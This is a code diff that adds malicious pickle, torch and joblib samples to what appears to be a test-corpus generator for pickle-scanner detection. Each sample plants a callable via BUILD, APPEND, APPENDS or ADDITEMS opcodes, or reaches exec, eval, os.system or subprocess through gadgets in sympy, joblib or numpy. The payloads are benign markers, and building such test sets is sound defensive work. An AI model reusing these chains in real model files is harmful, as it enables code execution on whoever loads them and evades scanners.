@@ -202,6 +202,64 @@ def build():
         "BUILD on an argparse.Namespace instance sets an instance attribute __setstate__ = exec; a second BUILD(code) calls it",
         "exec -> open()")
     m = nid()
+    body = call(gl("types", "SimpleNamespace")) + dct(__setstate__=gl("sympy.core.sympify", "sympify")) + BUILD + s(pyexpr(m)) + BUILD
+    add(m, ".pkl", pk(body), "pickle.load", 1,
+        "BUILD on a types.SimpleNamespace sets an instance attribute __setstate__ = sympy.core.sympify.sympify; a second BUILD(code) calls it",
+        "sympify -> eval -> os.system")
+    m = nid()
+    body = call(gl("argparse", "Namespace")) + dct(__setstate__=gl("sympy.printing.preview", "check_output")) + BUILD + lst(s("touch"), s(f"MARKER_{m}")) + BUILD
+    add(m, ".pkl", pk(body), "pickle.load", 1,
+        "argparse.Namespace instance attribute __setstate__ = sympy.printing.preview.check_output (subprocess.check_output); second BUILD state is the argv list",
+        "subprocess.check_output")
+    m = nid()
+    body = call(gl("argparse", "Namespace")) + tup(NONE, dct(__setstate__=gl("enum", "bltns.exec"))) + BUILD + s(py(m)) + BUILD
+    add(m, ".pkl", pk(body), "pickle.load", 1,
+        "first BUILD with (None, slotstate) tuple state: the setattr path plants __setstate__ = exec; second BUILD(code) calls it",
+        "exec -> open()")
+    m = nid()
+    bound = call(gl("sklearn.utils._available_if", "MethodType"), gl("enum", "bltns.exec"), s(py(m)))
+    body = call(gl("types", "SimpleNamespace")) + EMPTY_DICT + s("__setstate__") + bound + SETITEM + BUILD + EMPTY_DICT + BUILD
+    add(m, ".pkl", pk(body), "pickle.load", 1,
+        "planted __setstate__ is a call result MethodType(exec, code); the second BUILD's state {} becomes exec's globals",
+        "exec -> open()")
+    m = nid()
+    inner = pk(call(gl("os", "system"), s(shell(m))), 2)
+    data = call(gl("builtins", "bytes"), lst(*[b"K" + bytes([c]) for c in inner]))
+    body = call(gl("argparse", "Namespace")) + dct(__setstate__=gl("joblib._memmapping_reducer", "loads")) + BUILD + data + BUILD
+    add(m, ".pkl", pk(body), "pickle.load", 1,
+        "planted __setstate__ = joblib._memmapping_reducer.loads (pickle.loads); second BUILD state is bytes([...]) built at load time, holding a pickle that runs os.system",
+        "pickle.loads -> os.system")
+    m = nid()
+    body = call(gl("types", "SimpleNamespace")) + dct(__setstate__=gl("enum", "bltns.exec")) + BUILD + s(py(m)) + BUILD
+    add(m, ".pt", torch_zip(pk(body, 4)), "torch.load", 1,
+        "the planted-__setstate__ double BUILD inside a torch zip checkpoint's data.pkl",
+        "exec -> open()")
+    m = nid()
+    body = call(gl("types", "SimpleNamespace")) + dct(__setstate__=gl("enum", "bltns.exec")) + BUILD + s(py(m)) + BUILD
+    add(m, ".joblib", pk(body, 4), "joblib.load", 1,
+        "the planted-__setstate__ double BUILD under joblib.load (pure-Python unpickler)",
+        "exec -> open()")
+    m = nid()
+    body = call(gl("argparse", "Namespace")) + dct(append=gl("enum", "bltns.exec")) + BUILD + s(py(m)) + b"a"
+    add(m, ".pkl", pk(body), "pickle.load", 1,
+        "APPEND on a non-list looks up the instance's `append` attribute: BUILD plants append = exec, APPEND(code) calls it",
+        "exec -> open()")
+    m = nid()
+    body = call(gl("types", "SimpleNamespace")) + dct(extend=gl("sympy.printing.preview", "check_output")) + BUILD + MARK + s("touch") + s(f"MARKER_{m}") + b"e"
+    add(m, ".pkl", pk(body), "pickle.load", 1,
+        "APPENDS on a non-list calls the instance's `extend` with the items as a list: BUILD plants extend = subprocess.check_output (via sympy.printing.preview)",
+        "subprocess.check_output")
+    m = nid()
+    body = call(gl("argparse", "Namespace")) + dct(add=gl("sympy.core.sympify", "sympify")) + BUILD + MARK + s(pyexpr(m)) + b"\x90"
+    add(m, ".pkl", pk(body), "pickle.load", 1,
+        "ADDITEMS on a non-set calls the instance's `add` per item: BUILD plants add = sympify",
+        "sympify -> eval -> os.system")
+    m = nid()
+    body = call(gl("argparse", "Namespace")) + dct(append=gl("enum", "bltns.exec")) + BUILD + s(py(m)) + b"a"
+    add(m, ".joblib", pk(body), "joblib.load", 1,
+        "planted `append` + APPEND under joblib's pure-Python unpickler",
+        "exec -> open()")
+    m = nid()
     factory = call(gl("sklearn.utils._available_if", "MethodType"), gl("enum", "bltns.exec"), s(py(m)))
     dd = call(gl("collections", "defaultdict"), factory) + s("bit_generator") + s("MT19937") + SETITEM
     body = call(gl("numpy.random._pickle", "__bit_generator_ctor"), s("MT19937")) + dd + BUILD
